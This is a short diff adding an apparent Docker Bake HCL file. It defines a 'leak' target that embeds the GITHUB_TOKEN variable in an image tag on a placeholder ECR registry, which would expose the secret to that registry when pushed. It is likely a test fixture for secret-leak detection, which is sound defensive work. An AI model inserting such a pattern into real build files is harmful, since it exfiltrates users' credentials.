@@ -1,0 +1,2 @@
+variable "GITHUB_TOKEN" {}
+target "leak" { tags = ["123456789012.dkr.ecr.us-east-1.amazonaws.com/leak-${GITHUB_TOKEN}:t"] }
